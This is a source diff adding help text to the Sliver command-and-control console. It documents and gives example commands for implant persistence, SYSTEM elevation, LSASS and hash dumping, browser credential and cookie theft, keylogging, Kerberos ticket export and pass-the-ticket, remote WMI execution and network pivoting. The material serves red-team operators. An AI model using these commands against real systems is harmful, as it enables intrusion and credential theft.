+	reconfig --sleep-obfuscation on
+	reconfig --bandwidth 4k`
+
+	getEnvHelp = `[[.Bold]]Command:[[.Normal]] getenv [name]
+[[.Bold]]About:[[.Normal]] Print an environment variable of the implant process, or the whole environment if no name is given.`
+
+	setEnvHelp = `[[.Bold]]Command:[[.Normal]] setenv <name> <value>
+[[.Bold]]About:[[.Normal]] Set an environment variable in the implant process. Processes started afterwards by 'execute'
+and 'shell' inherit it.`
+
+	unsetEnvHelp = `[[.Bold]]Command:[[.Normal]] unsetenv <name>
+[[.Bold]]About:[[.Normal]] Unset an environment variable in the implant process.`
+
+	whoamiHelp = `[[.Bold]]Command:[[.Normal]] whoami
+[[.Bold]]About:[[.Normal]] Print the identity the implant is running as: username, UID and GID (SIDs on Windows) and
+enabled group memberships. On Windows this is the impersonated identity if there is one. The groups and enabled
+privileges are also cached in the session 'info'.`
+
+	hostInfoHelp = `[[.Bold]]Command:[[.Normal]] hostinfo
+[[.Bold]]About:[[.Normal]] Get the remote host's OS version and build, uptime, locale, timezone, domain or workgroup membership, virtualization indicators and host UUID.
+
+The server requests this information when a session first checks in and caches it, the cached copy is shown by 'info'. Running 'hostinfo' refreshes it.`
+
+	arpHelp = `[[.Bold]]Command:[[.Normal]] arp [flags]
+[[.Bold]]About:[[.Normal]] Print the host's ARP (IPv4) and NDP (IPv6) neighbor tables, a quick way to map the adjacent
+hosts on the segment. The implant only reads the tables, no traffic is sent.
+
+Entries without a resolved MAC address (incomplete or failed lookups) are hidden unless --all is used.`
+
+	curlHelp = `[[.Bold]]Command:[[.Normal]] curl [flags] <url> [header...]
+[[.Bold]]About:[[.Normal]] Issue an HTTP(S) request from the implant and print the response. Useful for exploring internal
+services without setting up a SOCKS proxy. The request is made directly, the host's proxy settings are ignored.
+
+Headers are given as extra arguments in 'Name: value' form, a Host header overrides the virtual host.
+
+[[.Bold]]Examples:[[.Normal]]
+	curl -i http://10.0.0.5:8080/
+	curl -k -X PUT -d '{"enabled":true}' https://intranet.local/api/v1/settings 'Content-Type: application/json'
+	curl -L -o admin.html http://10.0.0.5/admin 'Authorization: Basic YWRtaW46YWRtaW4='
+	curl -I http://169.254.169.254/latest/meta-data/`
+
+	portScanHelp = `[[.Bold]]Command:[[.Normal]] portscan [flags] <target...>
+[[.Bold]]About:[[.Normal]] TCP connect scan executed by the implant, only the open ports are sent back. This is far faster
+than scanning through a SOCKS proxy, especially over slow transports such as DNS.
+
+Targets are hosts, IPs, CIDR ranges (10.0.0.0/24) or last octet ranges (10.0.0.1-50), separated by spaces or commas.
+Ports are a comma separated list that may include ranges (22,80,8000-8100), a list of common services is used by default.
+
+Use --rate to cap the number of connections per second. A scan that reaches the command timeout returns what it found so far.
+
+[[.Bold]]Examples:[[.Normal]]
+	portscan 10.0.0.0/24
+	portscan -p 1-1024 -c 200 10.0.0.5 10.0.0.10-20
+	portscan -p 445,3389 -r 50 -t 600 10.0.0.0/16`
+
+	getPrivsHelp = `[[.Bold]]Command:[[.Normal]] getprivs
+[[.Bold]]About:[[.Normal]] (Windows Only) List the privileges of the implant's token and whether they're enabled.`
+
+	persistHelp = `[[.Bold]]Command:[[.Normal]] persist <operation> [flags]
+[[.Bold]]About:[[.Normal]] Install persistence on the active session's host. The server records what each technique
+changed, so everything can be listed and removed at the end of the engagement (even after the session is gone).
+
+[[.Bold]][[.Underline]]++ Operations ++[[.Normal]]
+[[.Bold]]ls[[.Normal]]      - List recorded persistence on all hosts, --cleanup to also print the manual cleanup steps
+[[.Bold]]install[[.Normal]] - Install persistence using --technique and --name
+[[.Bold]]rm[[.Normal]]      - Uninstall persistence <id> using the active session (which must be on the same host),
+          or with --forget only delete the record
+
+[[.Bold]][[.Underline]]++ Techniques ++[[.Normal]]
+[[.Bold]]runkey[[.Normal]]  - (Windows) HKCU Run key value
+[[.Bold]]schtask[[.Normal]] - (Windows) Scheduled task that runs at logon
+[[.Bold]]launchd[[.Normal]] - (macOS) LaunchAgent plist, or a LaunchDaemon when running as root
+[[.Bold]]systemd[[.Normal]] - (Linux) User unit, or a system unit when running as root
+[[.Bold]]cron[[.Normal]]    - (Linux) @reboot crontab entry
+
+Techniques only take effect at the next logon/boot, they do not start a second implant now.`
+
+	servicesHelp = `[[.Bold]]Command:[[.Normal]] services <operation> [flags] <service name>
+[[.Bold]]About:[[.Normal]] (Windows Only) Manage services through the service control manager of the implant's host, or of a remote --hostname.
+
+[[.Bold]][[.Underline]]++ Operations ++[[.Normal]]
+[[.Bold]]ls[[.Normal]]     - List services (default)
+[[.Bold]]info[[.Normal]]   - Show the configuration and status of a service
+[[.Bold]]create[[.Normal]] - Install a service running --binpath, optionally uploading a local --upload file there first
+[[.Bold]]start[[.Normal]]  - Start a service
+[[.Bold]]stop[[.Normal]]   - Stop a service
+[[.Bold]]rm[[.Normal]]     - Delete a service
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+services info Spooler
+services create -u ./svc.exe -b 'C:\Windows\Temp\svc.exe' -s auto -d 'Update service' updsvc
+services start updsvc`
+
+	registryHelp = `[[.Bold]]Command:[[.Normal]] registry <operation> [flags] <key path>
+[[.Bold]]About:[[.Normal]] (Windows Only) Read and modify the registry without spawning reg.exe.
+The key path may start with the hive (e.g. HKLM/SOFTWARE/Microsoft), otherwise --hive is used.
+Use / as the path separator, or quote paths containing \ with single quotes.
+
+[[.Bold]][[.Underline]]++ Operations ++[[.Normal]]
+[[.Bold]]read[[.Normal]]   - Read the value --name of a key
+[[.Bold]]write[[.Normal]]  - Write --value to the value --name of a key as --type
+[[.Bold]]create[[.Normal]] - Create a key
+[[.Bold]]rm[[.Normal]]     - Delete the value --name of a key, or the key itself (which must not have subkeys) if no --name is given
+[[.Bold]]ls[[.Normal]]     - List the subkeys and values of a key
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+registry ls HKLM/SOFTWARE/Microsoft/Windows/CurrentVersion/Run
+registry read -n ProductName HKLM/SOFTWARE/Microsoft/Windows\ NT/CurrentVersion
+registry write -n Updater -V 'C:\Windows\Temp\update.exe' HKCU/Software/Microsoft/Windows/CurrentVersion/Run
+registry write -n Flags -T dword -V 0x10 HKCU/Software/Example`
+
+	wmiHelp = `[[.Bold]]Command:[[.Normal]] wmi <operation> [flags] <query | command line>
+[[.Bold]]About:[[.Normal]] (Windows Only) Run WQL queries and start processes through WMI, without spawning wmic.exe or installing a service.
+Without --host the local machine is used. Remote hosts are accessed with the implant's current token (see 'impersonate' and 'make-token'), or with --username and --password if given. Credentials can't be used for the local machine.
+
+[[.Bold]][[.Underline]]++ Operations ++[[.Normal]]
+[[.Bold]]query[[.Normal]] - Run a WQL query in --namespace and print the results
+[[.Bold]]exec[[.Normal]]  - Start a process with Win32_Process.Create, the process is started without a console and its output is not returned
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+wmi query "SELECT Name, ProcessId FROM Win32_Process"
+wmi query -n root/SecurityCenter2 "SELECT displayName FROM AntiVirusProduct"
+wmi query -H dc01.corp.local "SELECT Caption, Version FROM Win32_OperatingSystem"
+wmi exec -H ws02 -u 'CORP\admin' -p Passw0rd "cmd.exe /c whoami > C:\Windows\Temp\out.txt"`
+
+	getSystemHelp = `[[.Bold]]Command:[[.Normal]] getsystem [-T <technique>]
+[[.Bold]]About:[[.Normal]] (Windows Only) Attempt to elevate to NT AUTHORITY\SYSTEM, requires administrator privileges.
+By default each technique is tried in the order listed below until one works.
+
+[[.Bold]]Techniques:[[.Normal]]
+[[.Bold]]token[[.Normal]]     - Steal the token of a process running as SYSTEM, the current session impersonates SYSTEM
+[[.Bold]]namedpipe[[.Normal]] - Create a temporary service that connects to a named pipe as SYSTEM and impersonate it
+[[.Bold]]inject[[.Normal]]    - Inject a new implant into the --process, a new SYSTEM session is created
+
+Use 'rev2self' to drop an impersonated SYSTEM token.`
 
 	websitesHelp = `[[.Bold]]Command:[[.Normal]] websites <options> <operation>
 [[.Bold]]About:[[.Normal]] Add content to HTTP(S) C2 websites to make them look more legit.
@@ -283,6 +780,8 @@ Sideload a Linux shared library into a new bash process using LD_PRELOAD:
 	sideload -p /bin/bash /tmp/mylib.so
 Sideload a Windows DLL as shellcode in a new process using sRDI, specifying the entrypoint and its arguments:
 	sideload -a "hello world" -e MyEntryPoint /tmp/mylib.dll
+Sideload a Windows DLL into an existing process (output is not captured, an error is reported once it completes):
+	sideload --pid 4242 -e MyEntryPoint /tmp/mylib.dll
 
 [[.Bold]]Remarks:[[.Normal]]
 Linux and MacOS shared library must call exit() once done with their jobs, as the Sliver implant will wait until the hosting process
@@ -291,21 +790,308 @@ This is not required on Windows since the payload is injected as a new remote th
 killing the hosting process.
 
 Parameters to the Linux and MacOS shared module are passed using the [[.Bold]]LD_PARAMS[[.Normal]] environment variable.
+On Linux the library is only ever written to an anonymous memfd, MacOS requires a temporary file which is removed once the hosting process exits.
+`
+
+	executePEHelp = `[[.Bold]]Command:[[.Normal]] execute-pe <options> <filepath to executable>
+[[.Bold]]About:[[.Normal]] (Windows Only) Run a native executable from memory and return its output, nothing is written to disk.
+By default the executable is mapped over a new suspended --process, which is then resumed and runs the executable instead of its own code.
+With --in-process the executable runs on a thread of the implant. Calls to ExitProcess and exit() only end that thread, but an executable
+that crashes takes the implant down with it. In-process execution requires a 64-bit implant and does not support executables that use static TLS.
+DLLs and .NET assemblies are not supported, use sideload/spawndll and execute-assembly for those.
+
+[[.Bold]]--args[[.Normal]] - Command line arguments passed to the executable
+[[.Bold]]--process[[.Normal]] - Process to host the executable (default: notepad.exe)
+[[.Bold]]--in-process[[.Normal]] - Run the executable inside the implant process
+[[.Bold]]--save[[.Normal]] - Save the output to a file
+[[.Bold]]--timeout[[.Normal]] - The executable is killed if it is still running when the command times out
+
+[[.Bold]]Examples:[[.Normal]]
+	execute-pe -a "coffee" ./mimikatz.exe
+	execute-pe -i -a "-h" ./tool.exe
+`
+
+	executeBOFHelp = `[[.Bold]]Command:[[.Normal]] execute-bof <options> <filepath to object file> [arguments...]
+[[.Bold]]About:[[.Normal]] (Windows Only) Load a Beacon Object File (BOF) into the implant process and run it, returning anything it outputs.
+Arguments are packed according to --format, one character per argument, the same way bof_pack does:
+
+	b - binary data, read from a local file
+	i - 4 byte integer
+	s - 2 byte integer
+	z - zero terminated string
+	Z - zero terminated wide string
+
+BOFs run on a thread of the implant, one at a time. A BOF that crashes takes the implant down with it.
+Only x64 object files are supported and they require a 64-bit implant.
+
+[[.Bold]]--entry-point[[.Normal]] - Function to call (default: go)
+[[.Bold]]--format[[.Normal]] - Types of the arguments
+[[.Bold]]--save[[.Normal]] - Save the output to a file
+
+[[.Bold]]Examples:[[.Normal]]
+	execute-bof ./whoami.x64.o
+	execute-bof -f zi ./netuser.x64.o Administrator 1
 `
 	spawnDllHelp = `[[.Bold]]Command:[[.Normal]] spawndll <options> <filepath to DLL> [entrypoint arguments]
 [[.Bold]]About:[[.Normal]] Load and execute a Reflective DLL in memory in a remote process.
 
 [[.Bold]]--process[[.Normal]] - Process to inject into.
 [[.Bold]]--export[[.Normal]] - Name of the export to call (default: ReflectiveLoader)
+[[.Bold]]--pipe[[.Normal]] - Name of a pipe (\\.\pipe\<name>) the DLL writes its output to, read in addition to stdout/stderr.
 `
 
 	terminateHelp = `[[.Bold]]Command:[[.Normal]] terminate PID
 [[.Bold]]About:[[.Normal]] Kills a remote process designated by PID
 `
 
-	screenshotHelp = `[[.Bold]]Command:[[.Normal]] screenshot
-[[.Bold]]About:[[.Normal]] Take a screenshot from the remote implant.
+	screenshotHelp = `[[.Bold]]Command:[[.Normal]] screenshot <options>
+[[.Bold]]About:[[.Normal]] Take a screenshot from the remote implant, the image is also saved to the loot store.
+
+[[.Bold]]--display[[.Normal]] - Capture a single display, by default all displays are captured into one image
+[[.Bold]]--list[[.Normal]] - List the active displays and their resolution
+[[.Bold]]--save[[.Normal]] - Local path to save the PNG to (default: temp file)
+`
+
+	screenshotWatchHelp = `[[.Bold]]Command:[[.Normal]] screenshot-watch [start|stop|follow|unfollow]
+[[.Bold]]About:[[.Normal]] Periodically capture the display at reduced quality and stream the frames to the server, to observe user activity without a remote desktop.
+Frames are JPEGs scaled to --scale percent of the display at --quality, and frames that did not change since the last capture are not sent. Frames are not kept by the server, each client that is following the session writes them to a local directory (--output), where latest.jpg is always the most recent frame.
+
+[[.Bold]]Subcommands:[[.Normal]]
+	(none)   - Show whether a watch is running
+	start    - Start capturing every --interval seconds and follow the session
+	stop     - Stop capturing
+	follow   - Save the frames of a watch started by another operator
+	unfollow - Stop saving frames locally, the watch keeps running
 `
+	keyloggerHelp = `[[.Bold]]Command:[[.Normal]] keylogger <options> <operation>
+[[.Bold]]About:[[.Normal]] (Windows/Linux) Capture keystrokes on the remote system, tagged by window title where available.
+Keystrokes are kept in a bounded buffer on the implant and periodically sent back to the server where they are saved to the loot store.
+On Linux the implant must be able to read /dev/input (usually root).
+
+[[.Bold]][[.Underline]]++ Operations ++[[.Normal]]
+[[.Bold]]start[[.Normal]] - Start the keylogger, see --flush-interval and --buffer-size
+[[.Bold]]stop [[.Normal]] - Stop the keylogger and retrieve any buffered keystrokes
+[[.Bold]]dump [[.Normal]] - Retrieve buffered keystrokes now
+With no operation the keylogger status is displayed.
+`
+
+	clipboardHelp = `[[.Bold]]Command:[[.Normal]] clipboard <options> <operation>
+[[.Bold]]About:[[.Normal]] Capture the text content of the remote clipboard, captures are saved to the loot store.
+Captures longer than --max-size are truncated. While monitoring, new clipboard content is kept in a bounded buffer on the implant and periodically sent back to the server.
+On Linux a Wayland or X11 session is required, with wl-paste, xclip or xsel installed. On MacOS pbpaste is used.
+
+[[.Bold]][[.Underline]]++ Operations ++[[.Normal]]
+[[.Bold]]start[[.Normal]] - Start monitoring the clipboard, see --poll-interval, --flush-interval and --buffer-size
+[[.Bold]]stop [[.Normal]] - Stop monitoring and retrieve any buffered entries
+[[.Bold]]dump [[.Normal]] - Retrieve buffered entries now
+With no operation the current clipboard content is captured.
+`
+	portfwdHelp = `[[.Bold]]Command:[[.Normal]] portfwd <options> <operation>
+[[.Bold]]About:[[.Normal]] Listen on a local port and tunnel each connection to a host:port reachable from the implant.
+Connections are multiplexed over the session's C2 connection, a session can have multiple forwards.
+Forwards are local to this client and are removed when the client exits.
+
+[[.Bold]][[.Underline]]++ Operations ++[[.Normal]]
+[[.Bold]]ls [[.Normal]] - List port forwards
+[[.Bold]]add[[.Normal]] - Add a port forward, specified with --remote and optionally --bind
+[[.Bold]]rm [[.Normal]] - Remove a port forward, specified with --id
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+
+Forward local port 3389 to an internal RDP server:
+	portfwd --remote 10.0.0.5:3389 --bind 127.0.0.1:3389 add
+`
+	rportfwdHelp = `[[.Bold]]Command:[[.Normal]] rportfwd <options> <operation>
+[[.Bold]]About:[[.Normal]] Listen on a port on the implant's host and tunnel each connection back to a host:port reachable from the server.
+The forward address is dialed by the server, not the client, so forwards keep running when the client exits.
+
+[[.Bold]][[.Underline]]++ Operations ++[[.Normal]]
+[[.Bold]]ls [[.Normal]] - List the session's reverse port forwards
+[[.Bold]]add[[.Normal]] - Add a reverse port forward, specified with --forward and optionally --bind
+[[.Bold]]rm [[.Normal]] - Remove a reverse port forward, specified with --id
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+
+Catch callbacks on port 8443 of the target network with a handler listening on the server:
+	rportfwd --bind 0.0.0.0:8443 --forward 127.0.0.1:8443 add
+`
+	socks5Help = `[[.Bold]]Command:[[.Normal]] socks5 <options> <operation>
+[[.Bold]]About:[[.Normal]] Start a local SOCKS5 proxy, connections are made from the implant's host.
+Each client connection is tunneled over the session's C2 connection, only CONNECT without authentication is supported.
+Proxies are local to this client and are removed when the client exits.
+
+[[.Bold]][[.Underline]]++ Operations ++[[.Normal]]
+[[.Bold]]ls   [[.Normal]] - List SOCKS5 proxies
+[[.Bold]]start[[.Normal]] - Start a SOCKS5 proxy, optionally specified with --bind
+[[.Bold]]stop [[.Normal]] - Stop a SOCKS5 proxy, specified with --id
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+
+Proxy tools into the target network:
+	socks5 --bind 127.0.0.1:1080 start
+	proxychains nmap -sT -Pn 10.0.0.0/24
+`
+	lootHelp = `[[.Bold]]Command:[[.Normal]] loot <options> <operation>
+[[.Bold]]About:[[.Normal]] Store and retrieve loot (screenshots, dumps, files) on the server, loot is shared with all operators.
+
+[[.Bold]][[.Underline]]++ Operations ++[[.Normal]]
+Operations are used to manage the loot store and go at the end of the command.
+
+[[.Bold]]ls   [[.Normal]] - List all loot, optionally filtered by --type
+[[.Bold]]fetch[[.Normal]] - Save a piece of loot locally, specified by <id> and optionally --save
+[[.Bold]]add  [[.Normal]] - Add a local file to the loot store, specified by <file path> and optionally --name/--type
+[[.Bold]]rm   [[.Normal]] - Remove a piece of loot, specified by <id>
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+
+List all screenshots:
+	loot --type screenshot ls
+
+Save a piece of loot to a local directory:
+	loot --save /tmp fetch 2c0ac2a4-a3a1-4bb2-9c9d-d2b3bd3ba1c1
+
+[[.Bold]][[.Underline]]++ Saving Command Output ++[[.Normal]]
+The output of any command can be saved while it is printed by ending the command with a redirect, colors are removed:
+
+[[.Bold]]> <file>   [[.Normal]] - Write the output to a local file
+[[.Bold]]>> <file>  [[.Normal]] - Append the output to a local file
+[[.Bold]]> loot     [[.Normal]] - Save the output as "output" loot named after the command, with the command, session, and time in a header
+[[.Bold]]> loot:name[[.Normal]] - Save the output as "output" loot with this name
+
+Use "> ./loot" to write to a local file named loot. Beacon results can be saved by redirecting 'tasks fetch'.
+
+	ps > /tmp/ps.txt
+	tasks fetch 2c0ac2a4 > loot:domain-admins
+`
+
+	credsHelp = `[[.Bold]]Command:[[.Normal]] creds <options> <operation>
+[[.Bold]]About:[[.Normal]] Manage the server's credential store, credentials are shared with all operators.
+Credentials recovered by commands such as 'wifi' are saved automatically, duplicates are skipped.
+
+[[.Bold]][[.Underline]]++ Operations ++[[.Normal]]
+[[.Bold]]ls [[.Normal]] - List all credentials, optionally filtered by --source
+[[.Bold]]add[[.Normal]] - Add a credential, specified by --username and --password or --hash
+[[.Bold]]rm [[.Normal]] - Remove a credential, specified by <id>
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+
+List all wireless keys:
+	creds --source wifi ls
+
+Add an NTLM hash:
+	creds --username admin --domain CORP --hash 8846f7eaee8fb117ad06bdd830b7586c --hash-type ntlm add
+`
+
+	wifiHelp = `[[.Bold]]Command:[[.Normal]] wifi
+[[.Bold]]About:[[.Normal]] List saved wireless profiles and recover their keys, recovered keys are saved to the credential store (see 'creds').
+On Windows keys are only returned in plaintext when running as an administrator or SYSTEM.
+On MacOS keys are read from the system keychain when running as root, some versions may still prompt the user.
+On Linux NetworkManager connection files are read, which requires root.
+`
+
+	browserHelp = `[[.Bold]]Command:[[.Normal]] browser <options>
+[[.Bold]]About:[[.Normal]] Recover saved logins and optionally cookies from the Chrome, Edge, Brave, Chromium and Firefox profiles of the current user.
+The implant collects the profile databases and the browser's key from the OS key store, decryption happens on the server. Logins are saved to the credential store (see 'creds') and cookies are saved as loot in JSON that cookie editor extensions can import.
+
+[[.Bold]]Notes:[[.Normal]]
+On Windows the key is unprotected with the user's DPAPI key, so the implant must run as that user. Cookie databases are locked while the browser is running, and cookies using app-bound encryption (v20, Chrome 127+) can't be decrypted.
+On MacOS reading the key from the keychain shows an authorization prompt to the user unless access was previously allowed.
+On Linux the key is read from the Secret Service keyring with secret-tool when available.
+Firefox profiles protected by a primary password are skipped.
+`
+
+	hashdumpHelp = `[[.Bold]]Command:[[.Normal]] hashdump
+[[.Bold]]About:[[.Normal]] (Windows/Linux) Dump the password hashes of local accounts into the credential store (see 'creds').
+On Windows the SAM and SYSTEM hives are saved with SeBackupPrivilege, which requires an administrator or SYSTEM, and the NTLM hashes are decrypted on the server. Domain accounts are not stored in the SAM.
+On Linux /etc/shadow is read, which requires root.
+`
+
+	lsassHelp = `[[.Bold]]Command:[[.Normal]] lsass
+[[.Bold]]About:[[.Normal]] (Windows) Dump the memory of LSASS, requires an administrator or SYSTEM.
+The dump is written to memory on the host, nothing touches the disk. By default the full (compressed) dump is saved to loot, which can be large; with --parse the MSV credentials (NTLM/SHA1 hashes) of each logon session are parsed on the host and only those are sent back and saved to the credential store (see 'creds'). On-host parsing supports 64-bit Windows only.
+
+[[.Bold]]Methods:[[.Normal]]
+	open      - Open a handle to LSASS (default)
+	duplicate - Duplicate a handle to LSASS that another process already holds, LSASS is never opened directly. This fails if no process holds a handle with enough access.
+
+With --snapshot the dump is taken from a PssCaptureSnapshot clone of LSASS instead of reading LSASS itself, the handle then also needs PROCESS_CREATE_PROCESS access.
+`
+
+	kerberosHelp = `[[.Bold]]Command:[[.Normal]] kerberos <operation> [flags]
+[[.Bold]]About:[[.Normal]] (Windows Only) List, export and import the Kerberos tickets of the implant's logon session through the LSA, no privileges are required.
+Only the current logon session is accessible, use 'impersonate' or 'make-token' with a new process for other users.
+
+[[.Bold]][[.Underline]]++ Operations ++[[.Normal]]
+[[.Bold]]ls[[.Normal]]     - List the cached tickets (default)
+[[.Bold]]export[[.Normal]] - Export the cached tickets to loot in --format kirbi (Rubeus/mimikatz) or ccache (impacket/MIT), optionally only those whose server name contains --server
+[[.Bold]]inject[[.Normal]] - Import a local kirbi or ccache file into the logon session (pass-the-ticket)
+
+TGT session keys are only exported when the host allows it (allowtgtsessionkey) or from an elevated context.
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+kerberos ls
+kerberos export -f ccache -s krbtgt
+kerberos inject ./administrator.kirbi`
+
+	ldapHelp = `[[.Bold]]Command:[[.Normal]] ldap <operation> [flags]
+[[.Bold]]About:[[.Normal]] (Windows Only) Query Active Directory over LDAP with the implant's token, the implant binds to a domain controller of its domain (or --server) with Negotiate and signing.
+
+[[.Bold]][[.Underline]]++ Operations ++[[.Normal]]
+[[.Bold]]query <filter>[[.Normal]] - Run an LDAP filter and print the entries, binary SIDs and GUIDs are decoded
+[[.Bold]]collect[[.Normal]]        - Enumerate the domain and save BloodHound (4.x) JSON files to loot as a zip
+
+Collections: domains (with trusts), users, computers, groups, ous and gpos, all by default. Only LDAP object data is collected:
+group memberships, trusts, GPO links, containers and object properties. ACLs, sessions and local groups are not, so those edges will be missing in BloodHound.
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+ldap query "(servicePrincipalName=*)" -a sAMAccountName,servicePrincipalName
+ldap query "(objectClass=*)" -b "CN=Configuration,DC=corp,DC=local" -s one
+ldap collect
+ldap collect -c users,groups -S dc02.corp.local`
+
+	searchHelp = `[[.Bold]]Command:[[.Normal]] search <options> [path]
+[[.Bold]]About:[[.Normal]] Search the remote filesystem under a path (default: current directory) for files whose name matches a glob and/or whose content matches a regular expression.
+The search runs on the implant and only the matches are sent back. Content matches show the line number and the line, binary files are not content searched.
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+
+Find KeePass databases in home directories:
+	search --name "*.kdbx" /home
+
+Find passwords in config files at most 3 directories deep:
+	search --name "*.conf" --content "passw(or)?d" --ignore-case --depth 3 /etc`
+
+	hashHelp = `[[.Bold]]Command:[[.Normal]] hash [flags] <path>
+[[.Bold]]About:[[.Normal]] Compute the MD5, SHA1 and/or SHA256 of a remote file, or with --recursive every file of a directory tree. Only the hashes are returned, the files never leave the host.
+To hunt for known files pass their hashes with --match (comma separated) or --match-file (a local file with one hash per line, sha256sum output works), only the matching files are then returned.
+
+[[.Bold]]Examples:[[.Normal]]
+	hash 'C:\Windows\System32\cmd.exe'
+	hash -r -n "*.dll" -a sha256 'C:\ProgramData'
+	hash -r -F known-bad.sha256 /tmp
+`
+
+	drivesHelp = `[[.Bold]]Command:[[.Normal]] drives [--all]
+[[.Bold]]About:[[.Normal]] List the logical drives and mount points of the remote host with their filesystem, capacity and usage.
+
+On Windows every drive letter is listed, mapped network drives show the share they point to, and connected shares without a drive letter are listed as well. On Linux and MacOS pseudo filesystems without any capacity (proc, sysfs, cgroup, etc.) are hidden unless --all is used.`
+
+	sshHelp = `[[.Bold]]Command:[[.Normal]] ssh <options> [user@]<host> [command]
+[[.Bold]]About:[[.Normal]] Connect from the implant to an SSH server with a password and/or a private key.
+When a command is given it is run on the server and its output is returned, otherwise an interactive shell is tunneled back to the console.
+The server's host key is not verified, its fingerprint is shown when a shell is opened.
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+
+Run a command with a password:
+	ssh -P hunter2 root@10.0.0.5 id
+
+Open a shell with a private key on a non-standard port:
+	ssh -i ~/.ssh/id_ed25519 -p 2222 -l deploy 10.0.0.5`
+
+	pivotGraphHelp = `[[.Bold]]Command:[[.Normal]] pivot-graph <options>
+[[.Bold]]About:[[.Normal]] Show the tree of sessions relaying traffic for other sessions, with the pivot transport and remote address of each link.
+Use --latency to ping each pivoted session, the latency is the round trip time from the server through all the hops.`
 	loadExtensionHelp = `[[.Bold]]Command:[[.Normal]] load-extension <directory path> 
 [[.Bold]]About:[[.Normal]] Load a Sliver extension to add new commands.
 Extensions are using the [[.Bold]]sideload[[.Normal]] or [[.Bold]]spawndll[[.Normal]] commands under the hood, depending on the use case.
@@ -348,16 +1134,222 @@ It is a directory containing any number of files, with a mandatory [[.Bold]]mani
           }
         }
       ],
-      "isReflective":false // only set to true when using a reflective DLL
+      "isReflective":false, // only set to true when using a reflective DLL
+      "isExtension":false, // set to true to load the DLL into the implant's memory (Windows only)
+      "init":"", // optional export called once after an in-memory extension is loaded
+      "arguments":[ // optional argument schema, packed like execute-bof arguments
+        {"name":"profile", "type":"string", "desc":"Chrome profile", "optional":true} // types: string, wstring, int, short, file
+      ]
     }
   ]
 }
 
+In-memory extensions ([[.Bold]]isExtension[[.Normal]]) are loaded once into the implant and stay loaded for later calls.
+Their exports must have the following signature, the callback is used to send output back:
+	int __cdecl Export(char *args, uint32_t argsLen, void (*callback)(char *data, int len))
+
 Each command will have the [[.Bold]]--process[[.Normal]] flag defined, which allows you to specify the process to inject into. The following default values are set:
  - Windows: c:\windows\system32\notepad.exe
  - Linux: /bin/bash
  - Mac OS X: /Applications/Safari.app/Contents/MacOS/SafariForWebKitDevelopment
 `
+
+	armoryHelp = `[[.Bold]]Command:[[.Normal]] armory <options> <operation>
+[[.Bold]]About:[[.Normal]] Install extensions and aliases from armories, installed packages are loaded when the console starts.
+An armory is a JSON index of packages, served over HTTP(S). Each package is a .tar.gz archive signed with the armory's ed25519 key,
+the signature is verified before a package is installed. Indexes are cached for an hour and packages are cached once downloaded.
+
+[[.Bold]][[.Underline]]++ Operations ++[[.Normal]]
+[[.Bold]]ls       [[.Normal]] - List the packages of all armories, optionally with --refresh to ignore the cache
+[[.Bold]]install  [[.Normal]] - Install or update a package, specified by <name>
+[[.Bold]]uninstall[[.Normal]] - Uninstall a package, specified by <name>
+[[.Bold]]add      [[.Normal]] - Add an armory, specified by <name> <index url> <base64 public key>
+[[.Bold]]rm       [[.Normal]] - Remove an armory, specified by <name>
+
+[[.Bold]][[.Underline]]++ Index ++[[.Normal]]
+{
+  "packages":[
+    {
+      "name":"chrome-dump", // name of the package, also the install directory
+      "version":"1.0.0",
+      "type":"extension", // "extension" or "alias"
+      "help":"Dump Google Chrome cookies",
+      "url":"chrome-dump.tar.gz", // relative to the index url, or absolute
+      "signature":"..." // base64 ed25519 signature of the archive
+    }
+  ]
+}
+Extension archives contain a manifest.json (see 'help load-extension'), alias archives an alias.json:
+{
+  "name":"seatbelt", // name of the console command
+  "help":"Run Seatbelt",
+  "command":"execute-assembly", // command to run, arguments of the alias are appended
+  "args":["$ALIAS_DIR/Seatbelt.exe"] // $ALIAS_DIR is replaced by the alias directory
+}
+Archives can be signed with OpenSSL, the armory public key is the raw 32 byte ed25519 key:
+	openssl genpkey -algorithm ed25519 -out armory.key
+	openssl pkey -in armory.key -pubout -outform DER | tail -c 32 | base64
+	openssl pkeyutl -sign -inkey armory.key -rawin -in chrome-dump.tar.gz | base64
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+
+Add an armory and install a package:
+	armory add team https://example.com/armory/index.json <base64 public key>
+	armory install chrome-dump
+`
+
+	aliasHelp = `[[.Bold]]Command:[[.Normal]] alias <options> <operation>
+[[.Bold]]About:[[.Normal]] Define shorthand commands that run one or more console commands, aliases are saved to
+~/.sliver-client/user-aliases.json and loaded when the console starts. Arguments given to an alias are appended
+to its last command. Commands of an alias are separated by ';'.
+
+[[.Bold]][[.Underline]]++ Operations ++[[.Normal]]
+[[.Bold]]ls    [[.Normal]] - List aliases
+[[.Bold]]add   [[.Normal]] - Add or replace an alias, specified by <name> <command> [args...] [; <command> [args...]]
+[[.Bold]]rm    [[.Normal]] - Remove an alias, specified by <name>
+[[.Bold]]export[[.Normal]] - Write aliases to a file other operators can import, specified by <file> [names...]
+[[.Bold]]import[[.Normal]] - Add the aliases of a file, specified by <file>
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+
+Add a situational awareness alias:
+	alias --description "Situational awareness" add sa whoami ; getprivs ; ifconfig ; netstat
+
+Share it with another operator:
+	alias export /tmp/aliases.json sa
+	alias import /tmp/aliases.json
+`
+
+	themeHelp = `[[.Bold]]Command:[[.Normal]] theme [name]
+[[.Bold]]About:[[.Normal]] List the console color themes, or switch to one. The theme is saved to ~/.sliver-client/settings.json,
+the SLIVER_THEME environment variable overrides it for a single run.
+
+Colors are disabled entirely, and themes can't be applied, when the console is started with --no-color, when the
+NO_COLOR environment variable is set, or when the output is not a terminal (e.g. piped into a file).`
+
